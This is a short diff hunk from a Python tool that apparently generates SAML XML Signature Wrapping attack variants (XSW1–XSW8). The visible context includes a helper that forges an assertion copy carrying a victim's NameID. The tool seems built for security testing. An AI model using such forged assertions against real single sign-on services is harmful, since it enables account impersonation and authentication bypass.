@@ -239,6 +239,19 @@ def evil_copy(assertion: str, victim: str, evil_id: str = "_evil0001") -> str:
     return re.sub(r"(<[\w.-]+:NameID\b[^>]*>)[^<]*(</)", rf"\g<1>{victim}\g<2>", evil, count=1)
 
 
+# Each wrapping variant with what the genuine document signs (the response or its assertion).
+XSW_VARIANTS = [
+    ("XSW1", "response"),
+    ("XSW2", "response"),
+    ("XSW3", "assertion"),
+    ("XSW4", "assertion"),
+    ("XSW5", "assertion"),
+    ("XSW6", "assertion"),
+    ("XSW7", "assertion"),
+    ("XSW8", "assertion"),
+]
+
+
 def wrap(xml: str, variant: str, victim: str) -> str:
     """The XSW1–XSW8 shapes (Somorovsky et al., "On Breaking SAML", 2012)."""
     original = signed_assertion(xml)
